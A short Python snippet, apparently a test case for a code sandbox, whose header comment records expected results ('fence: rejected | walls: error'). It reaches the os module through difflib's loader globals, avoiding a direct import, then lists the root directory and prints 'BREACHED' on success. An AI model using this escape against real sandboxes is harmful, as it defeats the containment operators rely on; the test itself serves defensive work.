# fence: rejected | walls: error
import client_sdk
import client_sdk.suggestions as suggestions
os = suggestions.difflib.__loader__.__init__.__globals__["sys"].modules["os"]
print("BREACHED" if os.listdir("/") else "empty")
